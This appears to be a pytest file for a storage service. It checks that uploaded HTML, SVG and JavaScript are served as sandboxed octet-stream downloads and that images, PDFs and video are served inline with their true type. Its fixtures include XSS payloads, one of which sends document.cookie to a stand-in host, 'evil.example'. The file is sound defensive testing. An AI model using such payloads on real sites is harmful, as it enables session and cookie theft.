"""Uploaded files are served as their bytes say, never as the uploader declared (storage/content_types.py):
images, video, audio and PDF inline with their true type; HTML, SVG, JavaScript and the unknown as an
octet-stream attachment with nosniff. Checked through the URLs a console uses: the public ``/api/storage/<id>``
and the signed link that /oss/upload and /oss/downloadUrl hand out."""

from typing import Any

import pytest

from cleanfleet.storage import service as storage
from cleanfleet.storage.models import StoredFile
from tests.files.uploads import JPEG_HEAD, MP4_HEAD, PDF_HEAD, fetch, upload
from tests.permission_matrix import fresh_name, png_bytes

HTML = b"<!doctype html><html><body><script>fetch('/api/user/info')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
JS = b"document.location = 'https://evil.example/?c=' + document.cookie;"


def assert_download(response: Any, data: bytes) -> None:
    assert response.status_code == 200 and response.content == data
    assert response.headers["content-type"] == "application/octet-stream"
    assert response.headers["content-disposition"].startswith("attachment")
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in response.headers["content-security-policy"]


def assert_inline(response: Any, data: bytes, content_type: str) -> None:
    assert response.status_code == 200 and response.content == data
    assert response.headers["content-type"] == content_type
    assert response.headers["content-disposition"].startswith("inline")
    assert response.headers["x-content-type-options"] == "nosniff"


async def _both(dealer: Any, name: str, data: bytes, declared: str) -> tuple[dict[str, Any], Any, Any]:
    """Upload the bytes public and private; answers the public upload's answer and both served responses."""
    folder = fresh_name("served")
    public = await upload(dealer, name, data, private=False, folder=folder, content_type=declared)
    private = await upload(dealer, name, data, private=True, folder=folder, content_type=declared)
    assert public.code == 0 and private.code == 0, (public.body, private.body)
    assert public.data["url"].startswith("/api/storage/") and "/signed/" in private.data["url"]
    link = await dealer.call("/oss/downloadUrl", {"isPrivate": True, "savePath": private.data["savePath"]})
    assert link.code == 0, link.body
    return public.data, await fetch(dealer, public.data["url"]), await fetch(dealer, link.data["url"])


@pytest.mark.parametrize(("name", "data", "declared"), [
    ("page.png", HTML, "image/png"),
    ("logo.svg", SVG, "image/svg+xml"),
    ("app.js", JS, "text/javascript"),
    ("page.html", HTML, "text/html"),
], ids=["html-declared-png", "svg-with-script", "javascript", "html"])
async def test_markup_and_script_download_as_octet_stream_whatever_was_declared(dealer, name, data, declared):
    saved, public, signed = await _both(dealer, name, data, declared)
    assert saved["contentType"] == "application/octet-stream"  # what was recorded, and what the lists show
    assert_download(public, data)
    assert_download(signed, data)
    assert signed.headers["content-disposition"] == f"attachment; filename*=UTF-8''{name}"


@pytest.mark.parametrize(("name", "data", "content_type"), [
    ("photo.png", png_bytes(), "image/png"),
    ("photo.jpg", JPEG_HEAD + b"\x00" * 64, "image/jpeg"),
    ("manual.pdf", PDF_HEAD, "application/pdf"),
    ("promo.mp4", MP4_HEAD + b"\x00" * 64, "video/mp4"),
], ids=["png", "jpeg", "pdf", "mp4"])
async def test_images_documents_and_video_are_shown_inline_with_their_true_type(dealer, name, data, content_type):
    saved, public, signed = await _both(dealer, name, data, "application/octet-stream")
    assert saved["contentType"] == content_type
    assert_inline(public, data, content_type)
    assert_inline(signed, data, content_type)
    assert signed.headers["content-disposition"] == f"inline; filename*=UTF-8''{name}"
    # the sandbox stops the browsers' PDF viewers; anything else keeps it as a second wall
    assert ("content-security-policy" in public.headers) == (content_type != "application/pdf")


async def test_a_png_declared_as_html_is_shown_as_the_png_it_is(dealer):
    image = png_bytes(32)
    saved, public, signed = await _both(dealer, "picture.html", image, "text/html")
    assert saved["contentType"] == "image/png"
    assert_inline(public, image, "image/png")
    assert_inline(signed, image, "image/png")


async def test_files_stored_before_with_a_declared_type_are_served_by_their_bytes(app, db, dealer):
    """An upload recorded with the client's type (before this rule) needs no migration: its bytes decide."""
    store = app.state.store
    html = await storage.save(db, store, HTML, kind="oss", extension="png", content_type="image/png",
                              owner_user_id=dealer.user.id, public=True)
    image = await storage.save(db, store, png_bytes(20), kind="oss", extension="html", content_type="text/html",
                               owner_user_id=dealer.user.id, public=True)
    await db.commit()
    assert (await db.get(StoredFile, html.id)).content_type == "image/png"  # the record still says so
    assert_download(await fetch(dealer, storage.public_url(html)), HTML)
    assert_inline(await fetch(dealer, storage.public_url(image)), png_bytes(20), "image/png")
    url, _ = storage.link_for(app.state.settings, await storage.save(
        db, store, SVG, kind="oss", extension="svg", content_type="image/svg+xml", owner_user_id=dealer.user.id,
        public=False), "old.svg")
    await db.commit()
    assert_download(await fetch(dealer, url), SVG)
